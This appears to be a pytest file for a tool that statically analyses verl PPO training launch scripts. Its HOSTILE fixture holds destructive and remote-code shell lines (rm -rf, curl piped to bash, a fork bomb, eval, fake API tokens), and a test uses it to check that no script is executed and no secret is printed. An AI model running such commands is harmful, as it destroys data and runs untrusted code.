@@ -1,0 +1,225 @@
+"""Launch scripts and pasted commands, through the command itself."""
+
+import json
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from tests.cli.runner import run
+from tests.corpus import launches
+
+SCRIPT = """#!/bin/bash
+set -x
+NNODES=${NNODES:-1}
+ARGS=(data.max_prompt_length=512 data.max_response_length=$((512 * 2)))
+if [ "$USE_SGLANG" = 1 ]; then ENGINE=sglang; else ENGINE=vllm; fi
+if command -v npu-smi > /dev/null; then ENGINE=vllm_ascend; fi
+python3 -m verl.trainer.main_ppo \\
+    algorithm.adv_estimator=grpo \\
+    data.train_batch_size=${BATCH:-256} "${ARGS[@]}" \\
+    actor_rollout_ref.model.path=$MODELS/Qwen/Qwen2.5-7B-Instruct \\
+    actor_rollout_ref.rollout.name=vllm \\
+    actor_rollout_ref.rollout.n=$N \\
+    actor_rollout_ref.actor.use_dynamic_bsz=True \\
+    trainer.nnodes=$NNODES $@
+"""
+OVERRIDES = (
+    "algorithm.adv_estimator=grpo",
+    "data.train_batch_size=256",
+    "data.max_prompt_length=512",
+    "data.max_response_length=1024",
+    "actor_rollout_ref.model.path=Qwen/Qwen2.5-7B-Instruct",
+    "actor_rollout_ref.rollout.name=vllm",
+    "actor_rollout_ref.rollout.n=8",
+    "actor_rollout_ref.actor.use_dynamic_bsz=True",
+    "trainer.nnodes=1",
+)
+
+
+@pytest.fixture
+def script(tmp_path: Path) -> Path:
+    file = tmp_path / "run.sh"
+    file.write_text(SCRIPT)
+    return file
+
+
+def answer(*words: str, stdin: str = "") -> dict[str, object]:
+    """The JSON of ``advise``."""
+    result = run("advise", *words, "--gpu", "h100-sxm", "--output-format", "json", stdin=stdin)
+    assert result.code == 0, result.err
+    content: dict[str, object] = json.loads(result.out)
+    return content
+
+
+def told(content: dict[str, object]) -> dict[str, object]:
+    """An answer without the places that its settings came from."""
+    findings = [
+        {key: value for key, value in finding.items() if key != "location"}
+        for finding in content["findings"]  # type: ignore[attr-defined]
+    ]
+    return {name: content[name] for name in ("workload", "verdict", "memory", "combination")} | {
+        "findings": findings
+    }
+
+
+def test_a_script_is_answered_as_its_overrides_are(script: Path) -> None:
+    wanted = told(answer("/dev/null", *OVERRIDES))
+    assert told(answer(str(script), "N=8")) == wanted
+    assert told(answer("-", "N=8", stdin=SCRIPT)) == wanted
+    assert told(answer(*OVERRIDES)) == wanted
+    assert told(answer("python3", "-m", "verl.trainer.main_ppo", *OVERRIDES)) == wanted
+    named = ("--config-path=config", "--config-name=ppo_trainer.yaml")
+    assert (
+        told(answer("HYDRA_FULL_ERROR=1", "python3", "-m", "verl.trainer.main_ppo", *named, *OVERRIDES))
+        == wanted
+    )
+    assert told(answer("/dev/null", *named, *OVERRIDES)) == wanted
+
+
+def test_what_the_script_leaves_open_is_named_with_its_place_and_settled_by_name(script: Path) -> None:
+    text = run("advise", str(script), "--gpu", "h100-sxm").out
+    assert "open: actor_rollout_ref.rollout.n is $N" in text
+    assert "give N=VALUE" in " ".join(text.split())
+    premises = answer(str(script))["premises"]
+    (value,) = premises["open_values"]  # type: ignore[index]
+    assert (value["key"], value["variable"], value["location"]["line"]) == (
+        "actor_rollout_ref.rollout.n",
+        "N",
+        12,
+    )
+    assert answer(str(script), "N=8")["premises"]["open_values"] == []  # type: ignore[index]
+
+
+def test_arguments_reach_the_script_and_variables_its_environment(script: Path) -> None:
+    content = answer(str(script), "N=4", "BATCH=512", "actor_rollout_ref.actor.ppo_mini_batch_size=128")
+    batch = content["workload"]["batch"]  # type: ignore[index]
+    assert (batch["prompts"], batch["responses_per_prompt"], batch["mini_batch_prompts"]) == (512, 4, 128)
+
+
+def test_findings_point_into_the_script(script: Path) -> None:
+    script.write_text(
+        SCRIPT.replace("use_dynamic_bsz=True", "use_dynamic_bsz=True actor_rollout_ref.rollot.n=2")
+    )
+    lines = run("check", str(script), "--gpu", "h100-sxm").out.splitlines()
+    assert any(line.startswith(f"{script}:13:") and "CFG001" in line for line in lines)
+
+
+def test_overrides_behind_a_comment_are_named_as_lost(script: Path) -> None:
+    script.write_text(
+        SCRIPT.replace(
+            "    actor_rollout_ref.rollout.n=$N", "    # responses\n    actor_rollout_ref.rollout.n=4"
+        )
+    )
+    text = " ".join(run("advise", str(script), "--gpu", "h100-sxm").out.split())
+    assert "LOST: these never reach the trainer" in text
+    lost = [remark["text"] for remark in answer(str(script))["premises"]["lost_overrides"]]  # type: ignore[index]
+    assert lost == [
+        "actor_rollout_ref.rollout.n=4",
+        "actor_rollout_ref.actor.use_dynamic_bsz=True",
+        "trainer.nnodes=1",
+    ]
+
+
+def test_several_launches_are_asked_about(script: Path) -> None:
+    script.write_text(SCRIPT + SCRIPT.replace("n=$N", "n=2"))
+    result = run("advise", str(script), "--gpu", "h100-sxm")
+    assert result.code == 2
+    assert "--launch 1: verl.trainer.main_ppo, line 7" in result.err
+    content = answer(str(script), "--launch", "2")
+    assert content["workload"]["batch"]["responses_per_prompt"] == 2  # type: ignore[index]
+    assert run("advise", str(script), "--launch", "3").code == 2
+
+
+@pytest.mark.parametrize(
+    ("words", "message"),
+    [
+        (["run.sh", "--gpuu", "h100"], "there is no option --gpuu; did you mean --gpu?"),
+        (["nothing"], "'nothing' is neither a file nor a command that starts a trainer"),
+        (["none.yaml"], "there is no such file"),
+        (["empty.sh"], "the script starts no program with overrides"),
+    ],
+)
+def test_what_cannot_be_read_ends_in_one_message(
+    script: Path, words: list[str], message: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(script.parent)
+    Path("empty.sh").write_text("#!/bin/bash\necho hi\n")
+    result = run("advise", *words)
+    assert result.code == 2
+    assert message in result.err
+    assert result.err.count("\n") == 1
+
+
+HOSTILE = """#!/bin/bash
+touch {witness}
+rm -rf {victim}
+curl -s https://example.org/x.sh | bash
+x=$(touch {witness}; echo 1)
+export WANDB_API_KEY=0123456789abcdef HF_TOKEN=hf_secretsecretsecret
+eval "touch {witness}"
+python3 -c "open('{witness}', 'w')"
+:(){{ :|:& }};
+while true; do touch {witness}; done
+python3 -m verl.trainer.main_ppo actor_rollout_ref.model.path=Qwen/Qwen3-8B +trainer.token=$HF_TOKEN \\
+    actor_rollout_ref.rollout.name=vllm trainer.project_name="$(touch {witness})" `touch {witness}`
+"""
+
+
+def test_nothing_of_a_script_is_executed_and_no_secret_is_printed(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    witness, victim = tmp_path / "witness", tmp_path / "victim"
+    victim.mkdir()
+    started: list[object] = []
+    monkeypatch.setattr(subprocess, "Popen", lambda *given, **options: started.append(given))
+    monkeypatch.setattr("os.system", started.append)
+    script = tmp_path / "run.sh"
+    script.write_text(HOSTILE.format(witness=witness, victim=victim))
+    for options in ([], ["--full"], ["--output-format", "json"]):
+        result = run("advise", str(script), "--gpu", "h100-sxm", *options)
+        assert result.code == 0, result.err
+        assert "hf_secret" not in result.out + result.err
+        assert "0123456789abcdef" not in result.out + result.err
+    assert started == []
+    assert sorted(tmp_path.iterdir()) == [script, victim]
+
+
+def as_script(overrides: list[str]) -> str:
+    """A script that gives these overrides, through variables, an array and quotes by turns."""
+    lines = ["#!/bin/bash", "ARRAY=("]
+    words = []
+    for position, override in enumerate(overrides):
+        key, _equals, value = override.partition("=")
+        quoted = "'" + value.replace("'", "'\"'\"'") + "'"
+        if position % 3 == 0:
+            lines.insert(1, f"V{position}={quoted}")
+            words.append(f'{key}="$V{position}"')
+        elif position % 3 == 1:
+            words.append(f"{key}={quoted}")
+        else:
+            lines.append(f"  {key}={quoted}  # in the array")
+    continued = " \\\n  ".join(words)
+    return "\n".join([*lines, ")", f"python3 -m verl.trainer.main_ppo {continued} \\", '  "${ARRAY[@]}"', ""])
+
+
+@pytest.mark.sampled(20)
+@pytest.mark.parametrize("number", range(0, 403, 4))
+def test_real_launches_say_the_same_as_scripts(number: int, tmp_path: Path) -> None:
+    launch = launches()[number]
+    if launch["entry"] != "verl.trainer.main_ppo" or any("=" not in word for word in launch["overrides"]):
+        pytest.skip("no launch of the PPO trainer by assignments alone")
+    file = tmp_path / "run.sh"
+    file.write_text(as_script(launch["overrides"]))
+    words = ["--gpu", "h100-sxm", "--verl-version", launch["tags"][0].removeprefix("v"), "-f", "json"]
+    from_script, from_words = (
+        run("advise", str(file), *words),
+        run("advise", "/dev/null", *words, "--", *launch["overrides"]),
+    )
+    assert from_script.code == from_words.code
+    if from_words.code == 0:
+        theirs, ours = json.loads(from_words.out), json.loads(from_script.out)
+        assert ours["workload"] == theirs["workload"]
+        assert ours["memory"] == theirs["memory"]
+        codes = [[finding["code"] for finding in answer["findings"]] for answer in (ours, theirs)]
+        assert sorted(codes[0]) == sorted(codes[1])
